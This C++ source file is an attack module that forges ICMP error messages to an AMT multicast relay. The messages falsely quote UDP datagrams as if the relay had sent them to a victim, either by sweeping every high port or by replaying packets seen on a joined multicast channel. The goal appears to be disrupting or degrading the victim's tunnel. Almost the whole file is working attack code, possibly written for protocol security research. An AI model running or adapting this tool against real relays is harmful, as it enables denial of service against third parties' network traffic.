/// ICMP errors about Multicast Data that the relay sends to others. Any router may send one: the sender's address is
/// its own, what it quotes is invented. Who watches the same channel knows every octet of it but the port.

#include <algorithm>
#include <array>
#include <cstdio>

#include "attacks.hh"
#include "crowd.hh"
#include "forger.hh"
#include "ip/checksum.hh"
#include "ip/udp.hh"
#include "sys/clock.hh"

namespace amt::attack {
namespace {

constexpr std::size_t kIcmpHeaderOctets = 8;
/// Whole messages stay within what RFC 1812 §4.3.2.3 and RFC 4443 §2.4 c allow.
constexpr std::size_t kErrorOctetsMaxV4 = 576;
constexpr std::size_t kErrorOctetsMaxV6 = 1280;

struct Target {
  IpAddress relay;
  IpAddress attacker;
  IpAddress victim;
  std::uint16_t mtu = 0;  ///< 0: port unreachable
};

/// The datagram from the relay to the victim, from its header on.
std::vector<std::byte> quoted_datagram(const Target& target, std::uint16_t port, Bytes message) {
  std::vector<std::byte> out(kIpv6HeaderOctets + kUdpHeaderOctets + message.size());
  const HeaderFields header{
      .source = target.relay, .destination = target.victim, .protocol = kProtocolUdp, .hop_limit = 60};
  out.resize(write_udp_datagram(out, header, kAmtPort, port, message));
  return out;
}

std::vector<std::byte> icmp_error(const Target& target, Bytes quote) {
  const bool v4 = target.relay.is_v4();
  const std::size_t headers = (v4 ? kIpv4HeaderOctets : kIpv6HeaderOctets) + kIcmpHeaderOctets;
  quote = quote.first(std::min(quote.size(), (v4 ? kErrorOctetsMaxV4 : kErrorOctetsMaxV6) - headers));
  std::vector<std::byte> icmp(kIcmpHeaderOctets + quote.size());
  ByteWriter out(icmp);
  const bool too_big = target.mtu != 0;
  // RFC 792 type 3, code 4 or 3; RFC 4443 type 2, or type 1 code 4.
  out.u8(v4 ? 3 : (too_big ? 2 : 1));
  out.u8(v4 ? (too_big ? 4 : 3) : (too_big ? 0 : 4));
  out.u16(0);
  out.u16(0);
  out.u16(target.mtu);
  out.bytes(quote);
  InternetChecksum sum;
  if (!v4) {
    sum.add_pseudo_header(target.attacker, target.relay, kProtocolIcmpv6, static_cast<std::uint32_t>(icmp.size()));
  }
  sum.add(icmp);
  put_u16_at(icmp, 2, sum.value());
  std::vector<std::byte> datagram(headers + quote.size());
  ByteWriter whole(datagram);
  const HeaderFields header{.source = target.attacker,
                            .destination = target.relay,
                            .protocol = v4 ? kProtocolIcmp : kProtocolIcmpv6,
                            .hop_limit = 64};
  write_header(whole, header, icmp.size());
  whole.bytes(icmp);
  return datagram;
}

/// Every port in turn, again and again: the blind one's way. What is quoted is of the length that the stream has.
void sweep(const Target& target, const Options& options, Forger& forger, Instant end) {
  constexpr std::uint32_t kFirstPort = 1024;
  constexpr std::uint32_t kLastPort = 65535;
  const std::vector<std::byte> message(options.number("octets", 1346));
  // What the eight octets after the IP header do not say cannot be checked by the kernel.
  const std::size_t quote = (target.relay.is_v4() ? kIpv4HeaderOctets : kIpv6HeaderOctets) + kUdpHeaderOctets;
  while (monotonic_now() < end) {
    for (std::uint32_t port = kFirstPort; port <= kLastPort && monotonic_now() < end; ++port) {
      const auto datagram = quoted_datagram(target, static_cast<std::uint16_t>(port), message);
      forger.add(icmp_error(target, Bytes(datagram).first(quote)));
    }
  }
}

/// Watches the channel, and quotes each packet of it as if it had gone to the victim's ports.
void quote_what_is_seen(const Target& target, const Options& options, Forger& forger, Instant end) {
  const IpAddress group = options.address("group");
  Crowd crowd({{options.address("own_relay")}, {target.attacker}, 1, group.family()});
  crowd.request_all(std::chrono::seconds(2));
  const std::array join{GroupRecord{RecordType::kAllowNewSources, group, {options.address("source")}}};
  crowd.send_report(crowd.tunnels().front(), join);
  const std::vector<std::uint16_t> ports = options.ports("ports");
  while (monotonic_now() < end) {
    crowd.receive(std::chrono::milliseconds(20), [&](Tunnel&, Bytes, Bytes message) {
      for (const std::uint16_t port : ports) forger.add(icmp_error(target, quoted_datagram(target, port, message)));
      forger.flush();
    });
  }
  crowd.send_teardown(crowd.tunnels().front());
}

}  // namespace

int run_icmp(const Options& options) {
  const Target target{options.address("relay"), options.address("local"), options.address("victim"),
                      static_cast<std::uint16_t>(options.number("mtu", 0))};
  const Instant end = monotonic_now() + options.milliseconds("milliseconds", 10'000);
  Forger forger(target.relay);
  if (options.text("act", "sweep") == "sweep") {
    sweep(target, options, forger, end);
  } else {
    quote_what_is_seen(target, options, forger, end);
  }
  std::printf("{\"sent\": %zu, \"octets\": %zu}\n", forger.sent(), forger.sent_octets());
  return 0;
}

}  // namespace amt::attack
